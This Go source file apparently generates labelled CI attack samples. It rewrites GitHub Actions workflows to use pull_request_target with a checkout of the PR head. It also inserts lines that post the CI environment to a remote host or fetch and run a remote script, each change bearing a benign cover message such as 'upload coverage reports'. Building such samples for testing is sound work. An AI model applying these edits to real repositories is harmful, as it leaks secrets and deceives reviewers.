package main

import (
	"fmt"
	"regexp"
	"strings"
)

var (
	workflowRE    = regexp.MustCompile(`^\.github/workflows/[^/]+\.ya?ml$`)
	onLineRE      = regexp.MustCompile(`^["']?on["']?:`)
	prTriggerRE   = regexp.MustCompile(`\bpull_request\b([^_]|$)`)
	checkoutRE    = regexp.MustCompile(`^(\s*)(- )?uses:\s*actions/checkout@`)
	ciScriptRE    = regexp.MustCompile(`^(ci|\.github|\.circleci|scripts?)/([^/]+/)?[^/]*\.(sh|bash)$`)
	topLevelKeyRE = regexp.MustCompile(`^\S`)
)

// prTarget switches a workflow's pull_request trigger to
// pull_request_target and makes its checkout take the PR's head (the
// "pwn request" of ultralytics 2024 and many others: untrusted code runs
// with the base repository's secrets and a write token).
func prTarget(src string, headRef bool) (string, error) {
	if strings.Contains(src, "pull_request_target") {
		return "", skipf("already on pull_request_target")
	}
	lines := strings.Split(src, "\n")
	on := -1
	for i, l := range lines {
		if onLineRE.MatchString(l) {
			on = i
			break
		}
	}
	if on < 0 {
		return "", skipf("no on: section")
	}
	switched := false
	for i := on; i < len(lines) && !switched; i++ {
		if i > on && topLevelKeyRE.MatchString(lines[i]) {
			break
		}
		if loc := prTriggerRE.FindStringIndex(lines[i]); loc != nil && !strings.HasPrefix(strings.TrimSpace(lines[i]), "#") {
			lines[i] = lines[i][:loc[0]] + "pull_request_target" + lines[i][loc[0]+len("pull_request"):]
			switched = true
		}
	}
	if !switched {
		return "", skipf("no pull_request trigger")
	}
	ref := []string{"ref: ${{ github.event.pull_request.head.sha }}"}
	if headRef {
		ref = []string{"repository: ${{ github.event.pull_request.head.repo.full_name }}", "ref: ${{ github.event.pull_request.head.ref }}"}
	}
	for i, l := range lines {
		m := checkoutRE.FindStringSubmatch(l)
		if m == nil {
			continue
		}
		key := strings.Repeat(" ", strings.Index(l, "uses:"))
		end := stepEnd(lines, i, len(key))
		for j := i + 1; j < end; j++ {
			if strings.TrimSpace(lines[j]) == "with:" && leading(lines[j]) == key {
				add := make([]string, len(ref))
				for k, r := range ref {
					add[k] = key + "  " + r
				}
				lines = append(lines[:j+1], append(add, lines[j+1:]...)...)
				return strings.Join(lines, "\n"), nil
			}
		}
		add := []string{key + "with:"}
		for _, r := range ref {
			add = append(add, key+"  "+r)
		}
		lines = append(lines[:i+1], append(add, lines[i+1:]...)...)
		return strings.Join(lines, "\n"), nil
	}
	return "", skipf("no actions/checkout step")
}

// stepEnd returns the index after the last line of the step whose keys
// are indented by key spaces and that starts at line i.
func stepEnd(lines []string, i, key int) int {
	j := i + 1
	for ; j < len(lines); j++ {
		t := strings.TrimSpace(lines[j])
		if t == "" {
			continue
		}
		if len(leading(lines[j])) < key || (len(leading(lines[j])) == key-2 && strings.HasPrefix(t, "- ")) {
			break
		}
	}
	for j > i+1 && strings.TrimSpace(lines[j-1]) == "" {
		j--
	}
	return j
}

func buildCIPRT(b *buildCtx) (*attack, error) {
	flows := paths(b.snap.match(workflowRE))
	if len(flows) == 0 {
		return nil, skipf("no GitHub Actions workflow")
	}
	headRef := b.rng.IntN(2) == 0
	c, err := b.firstEdit(flows, func(p, old string) (string, error) { return prTarget(old, headRef) })
	if err != nil {
		return nil, err
	}
	return &attack{changes: []change{c}, typ: "ci", scope: "",
		text: pick(b.rng, []string{"run checks for pull requests from forks", "let fork pull requests use the build cache", "fix workflow permissions for external contributors"}),
		desc: c.path + " switched to pull_request_target with a checkout of the PR head"}, nil
}

// exfilLine sends the CI environment away (codecov 2021: the altered
// uploader posted `git remote -v` and `env` to an attacker's address).
func (b *buildCtx) exfilLine() string {
	switch b.rng.IntN(3) {
	case 0:
		return fmt.Sprintf(`curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://%s/upload/v2 || true`, randomIP(b.rng))
	case 1:
		return fmt.Sprintf(`env | base64 -w0 | curl -s -X POST --data-binary @- https://%s/c >/dev/null 2>&1 || true`, randomHost(b.rng))
	}
	return fmt.Sprintf("bash <(curl -s https://%s/bash) || true", randomHost(b.rng))
}

// addExfilStep adds a coverage-upload step after a workflow's checkout.
func addExfilStep(src, line string) (string, error) {
	lines := strings.Split(src, "\n")
	for i, l := range lines {
		if checkoutRE.FindStringSubmatch(l) == nil {
			continue
		}
		key := strings.Index(l, "uses:")
		if key < 2 {
			continue
		}
		item := strings.Repeat(" ", key-2)
		end := stepEnd(lines, i, key)
		step := []string{item + "- name: Upload coverage", item + "  run: |", item + "    " + line}
		lines = append(lines[:end], append(step, lines[end:]...)...)
		return strings.Join(lines, "\n"), nil
	}
	return "", skipf("no actions/checkout step")
}

// appendToScript adds line to a shell script, before a final exit.
func appendToScript(src, line string) (string, error) {
	lines := strings.Split(strings.TrimRight(src, "\n"), "\n")
	at := len(lines)
	if strings.HasPrefix(strings.TrimSpace(lines[at-1]), "exit") {
		at--
	}
	lines = append(lines[:at], append([]string{line}, lines[at:]...)...)
	return strings.Join(lines, "\n") + "\n", nil
}

func buildCIExfil(b *buildCtx) (*attack, error) {
	flows := paths(b.snap.match(workflowRE))
	scripts := paths(b.snap.match(ciScriptRE))
	line := b.exfilLine()
	text := pick(b.rng, []string{"upload coverage reports", "add coverage upload", "report test coverage to the dashboard"})
	if len(scripts) > 0 && (len(flows) == 0 || b.rng.IntN(3) == 0) {
		c, err := b.firstEdit(scripts, func(_, old string) (string, error) { return appendToScript(old, line) })
		if err == nil {
			return &attack{changes: []change{c}, typ: "ci", text: text, desc: "CI script " + c.path + " sends the environment to a remote host"}, nil
		}
	}
	if len(flows) == 0 {
		return nil, skipf("no GitHub Actions workflow or CI script")
	}
	c, err := b.firstEdit(flows, func(_, old string) (string, error) { return addExfilStep(old, line) })
	if err != nil {
		return nil, err
	}
	return &attack{changes: []change{c}, typ: "ci", text: text, desc: "workflow " + c.path + " gets a step that sends the environment to a remote host"}, nil
}
